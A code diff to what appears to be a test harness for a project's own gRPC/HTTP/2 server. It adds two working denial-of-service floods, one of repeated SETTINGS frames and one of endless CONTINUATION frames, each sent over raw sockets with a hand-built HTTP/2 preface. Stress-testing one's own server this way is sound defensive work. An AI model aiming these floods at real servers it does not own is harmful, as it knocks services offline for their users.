@@ -1,4 +1,5 @@
 import { constants, type ClientHttp2Session } from 'node:http2';
+import { connect as connectSocket } from 'node:net';
 import { parentPort, workerData } from 'node:worker_threads';
 import { gzipSync } from 'node:zlib';
 import { toFrame } from '../../src/rpc/grpc/frames.js';
@@ -51,7 +52,47 @@ export const ATTACKS = {
         if (i % 20 === 0) await pause(0);
       }
     }),
+  'settings flood': (address: string, until: () => boolean) =>
+    eachSocket(address, until, Buffer.concat(Array.from({ length: 500 }, () => http2Frame(SETTINGS, 0)))),
+  'continuation flood': (address: string, until: () => boolean) => {
+    const headers = http2Frame(HEADERS, 1);
+    const endless = Array.from({ length: 500 }, () => http2Frame(CONTINUATION, 1));
+    return eachSocket(address, until, Buffer.concat(endless), headers);
+  },
 } as const;
+
+const [HEADERS, SETTINGS, CONTINUATION] = [1, 4, 9] as const;
+const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
+
+/** A frame without a payload and without flags (https://www.rfc-editor.org/rfc/rfc9113#section-4.1): no block of headers ends. */
+function http2Frame(type: number, streamId: number): Buffer {
+  const frame = Buffer.alloc(9);
+  frame[3] = type;
+  frame[8] = streamId;
+  return frame;
+}
+
+/** Sends the same frames over and over, as no HTTP/2 library would, until the server has enough. */
+async function eachSocket(
+  address: string,
+  until: () => boolean,
+  flood: Buffer,
+  first: Buffer = Buffer.alloc(0),
+): Promise<void> {
+  const [host = '', port = ''] = address.split(':');
+  while (!until()) {
+    const socket = connectSocket(Number(port), host).on('error', () => undefined);
+    // What the server says must be read, or it stops reading as well.
+    socket.resume();
+    socket.write(Buffer.concat([Buffer.from(PREFACE), http2Frame(SETTINGS, 0), first]));
+    while (!socket.destroyed && !until()) {
+      socket.write(flood);
+      await pause(1);
+    }
+    socket.destroy();
+    await pause(5);
+  }
+}
 
 async function eachConnection(
   address: string,
